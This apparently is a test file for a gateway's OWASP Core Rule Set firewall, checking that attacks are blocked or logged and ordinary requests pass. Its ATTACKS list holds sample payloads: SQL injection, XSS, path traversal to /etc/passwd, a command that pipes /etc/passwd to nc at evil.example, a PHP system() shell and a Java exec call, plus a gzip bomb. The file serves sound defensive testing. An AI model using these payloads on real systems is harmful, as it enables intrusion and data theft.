/**
 * The OWASP Core Rule Set, as Debian packages it, before a real upstream: what it condemns never arrives, what it does not arrives unchanged, and
 * each verdict is explained.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { curl, TestGateway } from "../support/gateway.ts";
import { RecordingUpstream } from "../support/gateway-upstreams.ts";
import { until } from "../support/until.ts";
import { Workspace } from "../support/workspace.ts";

const RULES = "/usr/share/modsecurity-crs";
/** Without the package there is nothing to test; where everything has to be there that is a failure. */
const isHere = existsSync(`${RULES}/rules`);

test.skipIf(!isHere && process.env.CI !== "true")(
  "the package modsecurity-crs is installed; where it is not, the other tests of this file are skipped",
  () => expect(isHere).toBe(true),
);

let folder: Workspace;
let upstream: RecordingUpstream;
let gateway: TestGateway;

beforeAll(async () => {
  if (!isHere) return;
  folder = new Workspace();
  folder.write(
    "rpc.proto",
    'syntax = "proto3"; package p; message M { string q = 1; } service S { rpc Ask(M) returns (M); }',
  );
  upstream = new RecordingUpstream();
  const to = `${upstream.url}|rewrite=/{rest}`;
  gateway = await TestGateway.start(folder, [
    "set|access_log=access.ndjson,max_inflated_bytes=256KiB,trusted_proxies=127.0.0.1",
    `route|shop|/shop/*|${to}`,
    `route|watched|/watched/*|${to}`,
    `route|except|/except/*|${to}`,
    `route|strict|/strict/*|${to}`,
    `route|free|/free/*|${to}`,
    // Nobody is there: what the firewall lets through fails behind it.
    `route|rpc|POST /rpc/*|grpc://127.0.0.1:1|proto=rpc.proto,retries=0`,
    `waf|${RULES}|block|id=shop,routes=shop;rpc,max_body=64KiB,audit_log=audit.ndjson`,
    `waf|${RULES}|detect|id=watched,routes=watched,max_body=64KiB,audit_log=watched.ndjson`,
    `waf|${RULES}|block|id=except,routes=except,exclude=942000-942999:ARGS:q`,
    `waf|${RULES}|block|id=strict,routes=strict,paranoia=4`,
  ]);
});

afterAll(async () => {
  await gateway?.[Symbol.asyncDispose]();
  upstream?.[Symbol.dispose]();
  folder?.[Symbol.dispose]();
});

interface Line {
  readonly [field: string]: unknown;
  readonly rules: readonly { readonly rule: number; readonly variable: string }[];
}

function lines(name: string): Line[] {
  if (!folder.exists(name)) return [];
  return folder
    .text(name)
    .trim()
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line) as Line);
}

async function statusOf(path: string, ...more: string[]): Promise<number> {
  const { out } = await curl("-o", "/dev/null", "-w", "%{http_code}", ...more, `${gateway.url}${path}`);
  return Number(out);
}

const form = (text: string): string[] => ["--data-raw", text];
const json = (text: string): string[] => ["-H", "content-type: application/json", "--data-raw", text];
const SQL = "1' OR '1'='1' UNION SELECT password FROM users--";

const ATTACKS: readonly (readonly [what: string, path: string, words: readonly string[], family: number])[] = [
  ["SQL in the query", `/a?q=${encodeURIComponent(SQL)}`, [], 942],
  ["SQL in a form", "/a", form(`name=x&q=${encodeURIComponent(SQL)}`), 942],
  ["SQL in JSON", "/a", json(JSON.stringify({ deep: [{ q: SQL }] })), 942],
  ["SQL in a cookie", "/a", ["-H", `cookie: q=${encodeURIComponent(SQL)}`], 942],
  ["a script in the query", "/a?q=%3Cscript%3Ealert(1)%3C/script%3E", [], 941],
  ["a script in multipart", "/a", ["--form-string", "q=<script>alert(document.cookie)</script>"], 941],
  ["a path to secrets", "/a?file=../../../../etc/passwd", [], 930],
  ["a command", "/a", form("q=%3Bcat%20/etc/passwd%7Cnc%20evil.example%2080"), 932],
  ["PHP", "/a", form("q=%3C%3Fphp%20system(%24_GET%5Bx%5D)%3B"), 933],
  ["a scanner", "/a", ["-A", "sqlmap/1.5"], 913],
  ["a remote file", "/a?q=http://203.0.113.1/x.php%3F", [], 931],
  ["Java", "/a", form("q=java.lang.Runtime.getRuntime().exec(1)"), 944],
];

describe.if(isHere)("block mode", () => {
  test.each(ATTACKS)("%s is answered 403 and never reaches the upstream", async (_, path, words, family) => {
    upstream.forget();
    const seen = lines("audit.ndjson").length;
    expect(await statusOf(`/shop${path}`, ...words)).toBe(403);
    expect(await statusOf("/shop/good")).toBe(200);
    expect(upstream.requests.map(({ line }) => line)).toEqual(["GET /good HTTP/1.1"]);
    const line = lines("audit.ndjson")[seen];
    expect(line).toMatchObject({
      waf: "shop",
      route: "shop",
      client: "127.0.0.1",
      verdict: { kind: "block", status: 403 },
    });
    expect(line?.rules.map(({ rule }) => Math.floor(rule / 1_000))).toContain(family);
  });

  test("usual requests arrive unchanged, with their bodies", async () => {
    upstream.forget();
    const text = JSON.stringify({ name: "O'Brien & sons", note: "select a size, then order", price: 3.5 });
    expect(await statusOf("/shop/a?q=red+shoes&page=2")).toBe(200);
    expect(await statusOf("/shop/a", ...form("name=J%C3%BCrgen&text=hello+world"))).toBe(200);
    expect(await statusOf("/shop/a", ...json(text))).toBe(200);
    expect(upstream.requests.map(({ line }) => line)).toEqual([
      "GET /a?q=red+shoes&page=2 HTTP/1.1",
      "POST /a HTTP/1.1",
      "POST /a HTTP/1.1",
    ]);
    expect(upstream.requests.map(({ body }) => body)).toEqual(["", "name=J%C3%BCrgen&text=hello+world", text]);
  });

  test("a block is in the log, in the access log and, without its reasons, in the reply", async () => {
    const { out } = await curl("-D", "-", `${gateway.url}/shop/a?q=${encodeURIComponent(SQL)}`);
    expect(out).toContain("application/problem+json");
    expect(out).not.toMatch(/\b942\d{3}\b|SQL|libinjection/i); // a request's id may have any digits within
    const id = /"requestId":"([^"]+)"/.exec(out)![1]!;
    await until("the access log has it", () => lines("access.ndjson").some((line) => line.id === id));
    const line = lines("access.ndjson").find((each) => each.id === id);
    expect(line).toMatchObject({ status: 403, route: "shop", notes: [{ waf: "shop", mode: "block" }] });
    expect(lines("audit.ndjson").find(({ request }) => request === id)?.rules.length).toBeGreaterThan(0);
    await until("the node's log has it", () => gateway.node.stderr.includes(id));
    const told = gateway.node.stderr.split("\n").find((each) => each.includes(id));
    expect(told).toMatch(/blocked: .*9421\d\d/);
  });

  test("a body that cannot be looked into is refused: too large, packed too densely, unreadable", async () => {
    upstream.forget();
    const large = folder.write("large", `a=${"x".repeat(65 * 1024)}`);
    expect(await statusOf("/shop/a", "--data-binary", `@${large}`)).toBe(413);
    expect(await statusOf("/shop/a", "-H", "transfer-encoding: chunked", "--data-binary", `@${large}`)).toBe(413);
    const bomb = folder.write("bomb", gzipSync(Buffer.alloc(32 * 1024 * 1024)));
    const packed = ["-H", "content-encoding: gzip", "-H", "content-type: application/json"];
    expect(await statusOf("/shop/a", ...packed, "--data-binary", `@${bomb}`)).toBe(413);
    for (const coding of ["gzip", "br", "x-none"])
      expect([400, 403, 415]).toContain(
        await statusOf("/shop/a", "-H", `content-encoding: ${coding}`, ...json("no such packing")),
      );
    expect([400, 403]).toContain(await statusOf("/shop/a", ...json('{"a":')));
    expect(upstream.requests).toEqual([]);
  });

  test("SQL that is packed is found", async () => {
    upstream.forget();
    const file = folder.write("packed", gzipSync(JSON.stringify({ q: SQL })));
    const packed = ["-H", "content-encoding: gzip", "-H", "content-type: application/json"];
    expect(await statusOf("/shop/a", ...packed, "--data-binary", `@${file}`)).toBe(403);
    expect(upstream.requests).toEqual([]);
  });

  test("JSON that would be made into a gRPC message is looked into as JSON", async () => {
    const ask = (q: string): Promise<number> => statusOf("/rpc/p.S/Ask", ...json(JSON.stringify({ q })));
    expect(await ask(SQL)).toBe(403);
    expect(await ask("red shoes")).toBeGreaterThanOrEqual(500);
  });

  test("a body that takes many turns is looked into to its end, and others are answered meanwhile", async () => {
    upstream.forget();
    const fields = Array.from({ length: 1_500 }, (_, at) => `field${at}=some+text+(${at})+of+it`);
    const good = folder.write("many", fields.join("&"));
    const bad = folder.write("many-bad", [...fields, `q=${encodeURIComponent(SQL)}`].join("&"));
    const post = (file: string): Promise<number> => statusOf("/shop/many", "--data-binary", `@${file}`);
    const all = await Promise.all([post(good), post(bad), statusOf("/free/a"), post(good), post(bad)]);
    expect(all).toEqual([200, 403, 200, 200, 403]);
    expect(upstream.requests.map(({ line }) => line).sort()).toEqual([
      "GET /a HTTP/1.1",
      "POST /many HTTP/1.1",
      "POST /many HTTP/1.1",
    ]);
  });

  test("other routes and other paranoia have their own say", async () => {
    upstream.forget();
    expect(await statusOf(`/free/a?q=${encodeURIComponent(SQL)}`)).toBe(200);
    expect(await statusOf("/shop/a?q=%22it%22+isn't+(so)+%5Bbad%5D!!")).toBe(200);
    expect(await statusOf("/strict/a?q=%22it%22+isn't+(so)+%5Bbad%5D!!")).toBe(403);
  });

  test("what is excluded passes, and only that", async () => {
    expect(await statusOf(`/except/a?q=${encodeURIComponent(SQL)}`)).toBe(200);
    expect(await statusOf(`/except/a?p=${encodeURIComponent(SQL)}`)).toBe(403);
    expect(await statusOf("/except/a?q=%3Cscript%3Ealert(1)%3C/script%3E")).toBe(403);
  });
});

describe.if(isHere)("detect mode", () => {
  test.each(ATTACKS)(
    "%s reaches the upstream, and the log says that it would have been blocked",
    async (_, path, words) => {
      upstream.forget();
      const seen = lines("watched.ndjson").length;
      expect(await statusOf(`/watched${path}`, ...words)).toBe(200);
      expect(upstream.requests.length).toBe(1);
      expect(lines("watched.ndjson")[seen]).toMatchObject({
        ...{ waf: "watched", mode: "detect", verdict: { kind: "pass" } },
        wouldBe: { kind: "block", status: 403 },
      });
    },
  );

  test("a body that is larger than it looks into passes whole", async () => {
    upstream.forget();
    const text = `a=${"x".repeat(100 * 1024)}`;
    const large = folder.write("large", text);
    expect(await statusOf("/watched/a", "--data-binary", `@${large}`)).toBe(200);
    expect(await statusOf("/watched/a", "-H", "transfer-encoding: chunked", "--data-binary", `@${large}`)).toBe(200);
    expect(upstream.requests.map(({ body }) => body === text)).toEqual([true, true]);
  });

  test("exclusions are proposed from real traffic, and what they name then passes in block mode", async () => {
    for (let client = 1; client <= 40; client++)
      await statusOf(`/watched/search?filter=${encodeURIComponent(SQL)}`, "-H", `x-forwarded-for: 203.0.113.${client}`);
    const { proposals } = await gateway.ask<{ proposals: { waf: string; exclude: string }[] }>("proposals");
    const own = proposals.filter(({ exclude, waf }) => waf === "watched" && exclude.endsWith("ARGS:filter"));
    expect(own.length).toBeGreaterThan(0);
    await using after = await TestGateway.start(
      folder,
      [
        `route|shop|/shop/*|${upstream.url}|rewrite=/{rest}`,
        `waf|${RULES}|block|exclude=${own.map(({ exclude }) => exclude).join(";")}`,
      ],
      { name: "after" },
    );
    const { out: status } = await curl(
      ...["-o", "/dev/null", "-w", "%{http_code}"],
      `${after.url}/shop/search?filter=${encodeURIComponent(SQL)}`,
    );
    expect(status).toBe("200");
  });
});
